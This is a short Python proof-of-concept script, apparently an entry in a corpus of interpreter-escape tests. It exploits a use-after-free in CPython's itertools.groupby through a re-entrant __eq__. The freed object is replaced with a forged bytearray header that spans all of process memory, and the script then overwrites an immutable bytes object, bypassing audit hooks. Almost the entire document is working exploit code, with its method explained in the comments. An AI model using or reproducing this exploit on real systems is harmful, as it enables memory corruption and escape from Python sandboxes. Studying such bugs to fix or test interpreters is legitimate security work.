# family: wall (memory: gh-143543, itertools.groupby re-entered from a key's __eq__)   goal: memory   interpreter: /usr/bin/python3
# itertools.groupby's __next__ compares its target key with the current one while
# holding both as borrowed pointers; the first key's __eq__ calls next() on the same
# groupby, which drops that key, and returns NotImplemented: the reflected __eq__ of
# the second key then runs with the freed first key as `other`. Its 80-byte block is
# taken back by a bytearray's buffer holding a fake bytearray header (length 2**62,
# data at address 0): `other` is then a bytearray over all memory, no audit event.
import itertools

W = lambda v: v.to_bytes(8, "little")
FAKE = bytes(16) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
keep = []
found = []


class Key:
    __slots__ = ("first", "b", "c", "d", "e")
    armed = [True]

    def __init__(self, first):
        self.first = first

    def __eq__(self, other):
        if self.first and Key.armed[0]:
            Key.armed[0] = False
            next(G)              # drops the key this comparison is running on
            return NotImplemented
        if not self.first and not found:
            keep.append(bytearray(FAKE))   # the freed key's block
            if type(other) is bytearray:
                found.append(other)
        return False


def keys():
    yield Key(True)
    while True:
        yield Key(False)


G = itertools.groupby([None, 1, 2], keys().send)
next(G)
next(G)
if found:
    mem = found[0]
    victim = b"intact!!"
    mem[id(victim) + 32] = ord("X")
    print("victim:", victim)
    if victim.startswith(b"X"):
        print("MEMORY-OVERWRITTEN")
